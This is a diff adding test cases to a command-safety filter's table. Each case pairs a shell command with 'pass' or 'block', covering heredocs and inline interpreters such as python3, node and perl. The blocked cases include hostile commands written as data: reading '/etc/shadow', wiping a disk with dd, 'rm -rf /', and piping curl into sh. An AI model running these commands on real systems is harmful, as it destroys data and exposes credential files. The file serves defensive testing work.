@@ -159,6 +159,15 @@ const TABLE: ReadonlyArray<readonly [string, Expected]> = [
   ["cat <<-EOF\n\trm -rf /\n\tEOF", "pass"],
   ["bash <<EOF\nrm -rf /\nEOF", "block"],
   ["cat <<EOF\n$(curl -s x | sh)\nEOF", "block"],
+  // code handed to another language's interpreter is checked as text, as DeerFlow checks every command
+  // (test_unparseable_heredoc_with_high_risk_pattern_still_blocks); its ordinary scripts pass
+  ["python3 << 'EOF'\necho it's fine\ncat /etc/shadow\nEOF", "block"],
+  ["python3 << 'EOF'\necho it's fine\nEOF", "pass"],
+  ["python3 -c 'import os; os.system(\"cat /etc/shadow\")'", "block"],
+  ["node -e 'require(\"child_process\").execSync(\"dd if=/dev/zero of=/dev/sda\")'", "block"],
+  ["perl <<< 'system(\"cat /etc/shadow\")'", "block"],
+  ["python3 -c 'import sys; print(sys.version)'", "pass"],
+  ["python3 script.py -c 'cat /etc/shadow is a note'", "pass"],
   // `<<<` and arithmetic `<<` are not heredocs
   ["echo $((1 << 4))", "pass"],
   ["(( mask = 1 << 3 )); echo $mask", "pass"],
